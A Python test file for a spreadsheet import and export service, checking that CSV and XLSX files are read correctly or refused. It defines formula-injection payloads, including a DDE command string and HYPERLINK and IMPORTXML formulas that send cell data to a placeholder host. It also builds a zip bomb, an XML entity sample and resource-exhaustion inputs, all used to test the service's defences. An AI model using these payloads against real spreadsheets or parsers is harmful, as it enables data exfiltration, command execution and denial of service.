"""A table is read as it was meant, cell by cell, or refused as a whole with its place."""

import io
import zipfile
from contextlib import suppress
from datetime import date, datetime, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.styles import PatternFill

from reports import sheets as written
from services import sheets, tables
from services.sheets import BadSheet, Flaw

COMPUTED = [
    '=HYPERLINK("http://x.test/?"&A1,"klik")',
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    '"=1+1',
    "=cmd|'/c calc'!A0",
    '=IMPORTXML(CONCAT("http://x.test/",A1),"//a")',
    "00123",
]


def xlsx(*rows):
    book = Workbook()
    for row in rows:
        book.active.append(row)
    return saved(book)


def saved(book):
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


def cells(content):
    return [row.cells for row in tables.rows(content, ["nomor"])]


def flaw(content):
    with pytest.raises(BadSheet) as refused:
        tables.rows(content, ["nomor"])
    return refused.value.flaw, refused.value.row


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
@pytest.mark.parametrize("sign", [",", ";", "\t"])
def test_csv_is_read_by_whatever_sign_and_encoding(encoding, sign):
    text = f'Nomor{sign}Catatan\r\nR-0001{sign}"Désa {sign} satu"\r\n'

    assert cells(text.encode(encoding)) == [{"nomor": "R-0001", "catatan": f"Désa {sign} satu"}]


def test_names_in_another_encoding_are_refused_not_mangled():
    assert flaw("Nomor;Nama\r\nR-1;Andr\xe9\r\n".encode("cp1252")) == (Flaw.NOT_UTF8, 0)


@pytest.mark.parametrize(
    ("text", "where"),
    [
        pytest.param('Nomor;Catatan\r\nR-0001;"terpo', 0, id="within a cell"),
        pytest.param("Nomor;Catatan;Lain\r\nR-0001;satu;dua\r\nR-00", 3, id="within a row"),
    ],
)
def test_a_file_cut_in_the_middle_is_taken_not_at_all(text, where):
    assert flaw(text.encode()) == (Flaw.CUT_OFF, where)


def test_a_comma_that_splits_a_number_is_noticed():
    assert flaw(b"Nomor,Jumlah\r\nR-0001,1,245\r\n") == (Flaw.TOO_MANY_CELLS, 2)


def test_empty_rows_are_nothing_and_rows_keep_their_numbers():
    assert [row.number for row in tables.rows(b"Nomor;A\r\n;\r\nR-1;x\r\n", ["nomor"])] == [3]


@pytest.mark.parametrize("value", COMPUTED)
def test_what_a_spreadsheet_would_compute_goes_out_and_comes_back_as_text(value):
    headings, rows = ["Nomor", "Catatan"], [["R-0001", value]]
    book, text = written.xlsx(headings, rows), written.csv_(headings, rows)

    sheet = zipfile.ZipFile(io.BytesIO(book)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert 'r="B2" s="2" t="inlineStr"' in sheet
    assert not any(cell.startswith(("=", "-", "@", "\t")) for cell in text.decode("utf-8-sig").split(";"))
    assert cells(text)[0]["catatan"] == value
    assert cells(book)[0]["catatan"] == value.strip()


@pytest.mark.parametrize(
    ("value", "meant"),
    [
        (81234567890, "81234567890"),
        (12.0, "12"),
        (1.245, "1,245"),
        (True, "ya"),
        (datetime(2024, 2, 5, 14, 20), "2024-02-05 14.20"),
        (date(2024, 2, 5), "2024-02-05"),
        ("00123", "00123"),
        (None, ""),
    ],
)
def test_a_cell_is_the_text_that_was_meant(value, meant):
    assert cells(xlsx(["Nomor", "X"], ["R-0001", value]))[0]["x"] == meant


def test_a_formula_is_never_computed():
    assert flaw(xlsx(["Nomor", "X"], ["R-0001", "=1+1"])) == (Flaw.FORMULA, 2)


def test_a_number_that_no_longer_shows_what_was_typed_is_refused():
    assert flaw(xlsx(["Nomor", "X"], ["R-0001", 1e17])) == (Flaw.BROKEN_CELL, 2)


def test_a_folder_packed_far_too_small_is_not_unpacked():
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("xl/worksheets/sheet1.xml", b"0" * 50_000_000)

    assert len(file.getvalue()) < sheets.LARGEST
    assert flaw(file.getvalue()) == (Flaw.TOO_LARGE, 0)


def test_entities_in_the_xml_of_a_sheet_are_not_resolved():
    whole, file = zipfile.ZipFile(io.BytesIO(xlsx(["Nomor"], ["R-1"]))), io.BytesIO()
    with zipfile.ZipFile(file, "w") as changed:
        for part in whole.infolist():
            content = whole.read(part).decode()
            if part.filename.endswith("sheet1.xml"):
                content = '<!DOCTYPE x [<!ENTITY a "bom">]>' + content
            changed.writestr(part.filename, content)

    assert flaw(file.getvalue()) == (Flaw.NO_TABLE, 0)


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        pytest.param(b"", Flaw.NO_TABLE, id="nothing"),
        pytest.param(b"Nomor\0;A\r\n", Flaw.NO_TABLE, id="no text"),
        pytest.param(b"PK\x03\x04 broken", Flaw.NO_TABLE, id="a broken folder"),
        pytest.param(b"A;B\r\n1;2\r\n", Flaw.NO_COLUMNS, id="another table"),
        pytest.param(b"Nomor;A;a\r\n1;2;3\r\n", Flaw.TWICE, id="a column twice"),
        pytest.param(b"x" * (sheets.LARGEST + 1), Flaw.TOO_LARGE, id="too many bytes"),
        pytest.param(b"Nomor\r\n" + b"R-1\r\n" * (sheets.ROWS + 1), Flaw.TOO_LARGE, id="too many rows"),
        pytest.param(b"Nomor\r\n" + b"x" * (sheets.SIGNS + 1), Flaw.TOO_LARGE, id="too many signs in a cell"),
    ],
)
def test_what_is_no_such_table_is_refused(content, expected):
    assert flaw(content)[0] is expected


def test_only_rows_with_something_in_them_count_however_far_below():
    book = Workbook()
    book.active["A1"], book.active["A2"], book.active["A3001"] = "Nomor", "R-1", "R-2"
    book.active["A3000"].fill = PatternFill("solid", fgColor="FFFF00")
    book.active["C1048576"].fill = PatternFill("solid", fgColor="FFFF00")

    assert [row.number for row in tables.rows(saved(book), ["nomor"])] == [2, 3001]


def test_coloured_cells_beside_and_below_a_long_list_do_not_count():
    book = Workbook()
    for cells in (["Nomor"], *([f"R-{n}"] for n in range(sheets.ROWS))):
        book.active.append(cells)
    for place in ("B2", "ZZ9", "A2500"):
        book.active[place].fill = PatternFill("solid", fgColor="FFFF00")

    assert len(sheets.read(saved(book), ["nomor"])) == sheets.ROWS


def test_rows_that_excel_left_without_their_last_separators_are_filled_with_blanks():
    text = "Nomor;A;B;C\r\nR-1;x;y;z\r\nR-2;x\r\nR-3\r\n"

    assert cells(text.encode())[1:] == [
        {"nomor": "R-2", "a": "x", "b": "", "c": ""},
        {"nomor": "R-3", "a": "", "b": "", "c": ""},
    ]


def test_what_stands_under_no_heading_is_refused_and_not_passed_over():
    assert flaw(b"Nomor;;A\r\nR-1;lost;x\r\n") == (Flaw.TOO_MANY_CELLS, 2)


def styles(count):
    return b"<styleSheet><cellXfs>" + b'<xf numFmtId="0"/>' * count + b"</cellXfs></styleSheet>"


def changed(part, content):
    """A good XLSX with one part replaced."""
    whole, file = zipfile.ZipFile(io.BytesIO(xlsx(["Nomor", "A"], ["R-1", "x"]))), io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed:
        for own in whole.infolist():
            packed.writestr(own.filename, content if own.filename == part else whole.read(own.filename))
    return file.getvalue()


def sheet(rows):
    xml = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return f'<worksheet xmlns="{xml}"><sheetData>{rows}</sheetData></worksheet>'.encode()


SHEET = "xl/worksheets/sheet1.xml"
HEADINGS = '<row r="1"><c r="A1" t="inlineStr"><is><t>Nomor</t></is></c></row>'
LONG = "x" * 3999


def below(cell):
    """A sheet with the same cell in every row but the first."""
    return changed(SHEET, sheet(HEADINGS + "".join(f'<row r="{n}">{cell.format(n)}</row>' for n in range(2, 2001))))


HOSTILE = {
    "as many headings as a file holds": b"Nomor;" + b"a;" * 400_000 + b"\r\nR-1\r\n",
    "all of them different": b"Nomor;" + b";".join(b"%d" % n for n in range(140_000)) + b"\r\nR-1\r\n",
    "a heading of brackets": b"Nomor;" + b"[" * 40_000 + b"\r\nR-1;x\r\n",
    "a cell without end": b"Nomor;A\r\nR-1;" + b"[" * 900_000 + b"\r\n",
    "separators alone": b"Nomor\r\n" + b";" * 900_000 + b"x\r\n",
    "quotes alone": b"Nomor;A\r\n" + b'"' * 900_001,
    "many rows": b"Nomor\r\n" + b"R-1\r\n" * 150_000,
    "many styles": changed("xl/styles.xml", styles(500_000)),
    "a value in the last column": below('<c r="XFD{0}"><v>1</v></c>'),
    "cells in the last column": below('<c r="XFD{0}"/>' * 40),
    "XML as deep as a file holds": changed(SHEET, b"<a>" * 3_000_000),
    "a long text in every row": below(f'<c r="A{{0}}" t="inlineStr"><is><t>{LONG}</t></is></c>'),
    "a text of another table's length": below(f'<c r="A{{0}}" t="inlineStr"><is><t>{LONG * 2}</t></is></c>'),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_file_made_to_keep_us_busy_is_refused_within_the_bounds_of_its_child(name):
    bounds = sheets.BOUNDS._replace(work=timedelta(seconds=3))  # a table of that size takes a tenth of it

    with suppress(BadSheet):
        assert sheets.read(HOSTILE[name], ["nomor"], bounds=bounds) == [], "only cells without a value are nothing"


@pytest.mark.parametrize(
    ("bounds", "expected"),
    [
        pytest.param({"work": timedelta(0)}, Flaw.TOO_LARGE, id="too much work"),
        pytest.param({"megabytes": 45}, Flaw.TOO_LARGE, id="too much memory"),
        pytest.param({"patience": timedelta(milliseconds=1)}, Flaw.NOT_NOW, id="a machine without time"),
    ],
)
def test_what_does_not_fit_into_its_child_is_refused_for_what_it_is(bounds, expected):
    content = xlsx(["Nomor", *range(100)], *(["R-1", *range(100)] for _ in range(1000)))

    with pytest.raises(BadSheet) as refused:
        sheets.read(content, ["nomor"], bounds=sheets.BOUNDS._replace(**bounds))

    assert refused.value.flaw is expected


@pytest.mark.parametrize(
    ("heading", "meant"),
    [("email", "surel"), ("E-Mail", "surel"), ("surell", "surel"), ("no hp", "hp"), ("Telefon", "hp"), ("zodiak", "")],
)
def test_a_heading_that_nobody_knows_is_refused_with_what_was_meant(heading, meant):
    rows = tables.rows(f"Kantor;{heading}\r\ncamat;x\r\n".encode(), ["kantor"])

    with pytest.raises(BadSheet) as refused:
        sheets.refuse_unknown(rows, {"kantor", "surel", "hp"}, {"email": "surel", "telepon": "hp", "no hp": "hp"})

    assert (refused.value.flaw, refused.value.meant) == (Flaw.UNKNOWN_COLUMN, meant)
    assert (f"did you mean {meant}?" if meant else "leave the column out") in str(refused.value)


@given(st.binary(max_size=400) | st.text(max_size=200).map(lambda text: f"Nomor;A\n{text}".encode()))
def test_whatever_is_sent_is_read_or_refused(content):
    with suppress(BadSheet):
        assert all("nomor" in row.cells for row in tables.rows(content, ["nomor"]))
